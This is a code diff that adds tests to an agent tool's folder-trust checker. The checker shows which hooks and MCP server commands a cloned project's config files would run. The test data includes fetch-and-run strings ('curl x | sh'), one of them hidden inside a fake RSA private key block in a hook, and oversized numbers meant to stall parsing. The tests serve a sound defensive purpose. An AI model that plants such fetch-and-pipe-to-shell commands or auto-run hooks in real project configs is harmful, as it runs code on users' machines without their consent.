@@ -16,6 +16,7 @@ from agent_core.desk.host import Host
 from agent_core.desk.house import Launch
 from agent_core.errors import ConfigError, StoreError
 from agent_core.grants_file import GrantsFile
+from tests.rows import each_row
 
 HOOKS = {"hooks": {"PreToolUse": [{"matcher": "write_file", "command": "touch /tmp/never"}]}}
 
@@ -129,6 +130,49 @@ def test_a_line_that_is_too_long_says_how_much_is_left_out(clone):
     [(_, _, words)] = clone.rows()
     assert len(words) < limits.TRUST_ROW_CHARS + 100
     assert "more characters" in words
+
+
+@each_row(
+    ("entry", "words"),
+    [
+        ({"command": ["sh", "-c"], "args": "curl x | sh"}, "a: sh -c curl x | sh"),
+        ({"command": "sh", "args": "-ccurl x"}, "a: sh -ccurl x"),
+        ({"cmd": "sh", "args": ["-c", "x"]}, 'a: ?  {"cmd": "sh", "args": ["-c", "x"]}'),
+        ({"command": "ls", "cmd": "", "url": "http://x/"}, 'a: ls  {"cmd": "", "url": "http://x/"}'),
+        ({"url": ["http://x/", "y"]}, "a: http://x/ y"),
+        ({"command": {"a": 1}, "args": {"b": 2}}, "a: {'a': 1} {'b': 2}"),
+        ("text", "a: text"),
+    ],
+)
+def test_of_a_server_nothing_is_left_out_however_its_command_is_spelled(tmp_path_factory, entry, words):
+    clone = Clone(tmp_path_factory.mktemp("clone"))
+    clone.write(".mcp.json", {"mcpServers": {"a": entry}})
+    assert clone.rows() == [(".mcp.json", "server", words)]
+
+
+def test_where_a_key_is_left_out_of_what_would_run_that_is_said(clone):
+    block = "-----BEGIN RSA PRIVATE KEY-----; curl x | sh; : -----END RSA PRIVATE KEY-----"
+    clone.write(".nanohermes/hooks.json", {"hooks": {"TurnEnd": [{"command": f": {block}"}]}})
+    [(_, _, words)] = clone.rows()
+    assert "curl" not in words
+    assert "look into the file" in words
+
+
+@each_row(
+    ("name", "text"),
+    [
+        (".nanohermes/hooks.json", '{"hooks": {"TurnEnd": %s}}' % ("1" * 5_000)),
+        (".nanohermes/hooks.json", '{"hooks": {"TurnEnd": [{"command": "x", "timeout": 1%s}]}}' % ("0" * 400)),
+        (".mcp.json", '{"servers": {"a": {"command": "x", "timeout": %s}}}' % ("1" * 5_000)),
+        (".nanohermes/config.yaml", f"mcp_servers: {{a: {{command: x, timeout: 0x{'f' * 5_000}}}}}"),
+        (".nanohermes/config.yaml", f"hooks: {{TurnEnd: [{{command: x, timeout: 1{'0' * 400}}}]}}"),
+        (".nanohermes/config.yaml", f"after_edit: [{{match: x, run: x, timeout: 0x{'f' * 5_000}}}]"),
+    ],
+)
+def test_a_number_without_end_keeps_nobody_from_opening_the_folder(tmp_path_factory, name, text):
+    clone = Clone(tmp_path_factory.mktemp("clone"))
+    clone.write(name, text)
+    assert [file for file, _, _ in clone.rows()] == [name]
 
 
 def test_broken_files_are_named_and_do_not_act(clone):
